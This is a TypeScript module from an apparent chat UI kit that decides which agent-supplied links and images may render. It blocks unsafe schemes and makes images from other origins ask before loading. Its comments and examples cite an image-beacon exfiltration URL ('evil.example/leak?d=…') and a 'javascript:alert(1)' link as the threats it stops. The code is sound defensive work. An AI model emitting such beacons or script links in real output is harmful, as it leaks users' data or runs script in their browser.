import { safeUrl } from "../markdown/safeUrl";

/**
 * One policy for every URL the kit renders from the agent (message media, artifact previews and
 * downloads, sources, Markdown links). Pure: no React, no DOM beyond the base URL it is given.
 *
 * An image loads by itself, with no click, so an agent's `<img src="https://evil.example/leak?d=…">`
 * is a tracking and exfiltration channel. Images from the page's own origin and from the origins
 * the app allows load; any other shows a button "Load image from evil.example". Links keep their
 * safety (no `javascript:`, `data:` …): following one is the person's act.
 */
export interface UrlPolicy {
  /**
   * Origins whose images load without a click, besides the page's own (`"https://cdn.example.com"`),
   * or `"*"` for any http(s) origin (an app that trusts its agent's images).
   */
  imageOrigins?: readonly string[];
}

/** What to do with an image URL: load it, ask the person first (naming the host), or show none. */
export type ImageDecision = { kind: "load"; src: string } | { kind: "ask"; src: string; host: string } | { kind: "refuse" };

const HTTP = /^https?:$/;
/** `//host/…` (browsers read `\\` as `/` here): another origin, though it has no scheme. */
const PROTOCOL_RELATIVE = /^\s*[/\\]{2}/;

/**
 * A link's URL as the kit renders it: the safe form (see `safeUrl`), protocol-relative ones
 * (`//evil.example/…`, which `safeUrl` read as relative) made absolute, so the person sees and
 * follows what the browser would. `""` for a refused URL.
 *
 * @example
 * linkUrl("//evil.example/a", "https://app.example/chat"); // "https://evil.example/a"
 * linkUrl("javascript:alert(1)", "https://app.example/"); // ""
 */
export function linkUrl(raw: string, base: string): string {
  const safe = safeUrl(raw);
  if (!safe || !PROTOCOL_RELATIVE.test(safe)) return safe;
  const url = resolve(safe, base);
  return url && HTTP.test(url.protocol) ? url.href : "";
}

/**
 * Whether the image at `raw` may load: same-origin or allowed by `policy` loads; another http(s)
 * origin asks; anything else (a `data:` URL, a refused scheme) shows none. Inline data the agent
 * sent as content (`source.type: "data"`) is not a URL and is not decided here.
 *
 * @example
 * imageDecision("//evil.example/leak?d=1", {}, "https://app.example/"); // { kind: "ask", src: "https://evil.example/leak?d=1", host: "evil.example" }
 * imageDecision("/logo.png", {}, "https://app.example/"); // { kind: "load", src: "https://app.example/logo.png" }
 */
export function imageDecision(raw: string, policy: UrlPolicy | undefined, base: string): ImageDecision {
  if (!safeUrl(raw)) return { kind: "refuse" };
  const url = resolve(raw, base);
  if (!url || !HTTP.test(url.protocol)) return { kind: "refuse" };
  const own = resolve(base, base)?.origin;
  const allowed = policy?.imageOrigins ?? [];
  if (url.origin === own || allowed.includes("*") || allowed.some((origin) => resolve(origin, base)?.origin === url.origin)) return { kind: "load", src: url.href };
  return { kind: "ask", src: url.href, host: url.host };
}

function resolve(raw: string, base: string): URL | undefined {
  try {
    return new URL(raw, base);
  } catch {
    return undefined;
  }
}
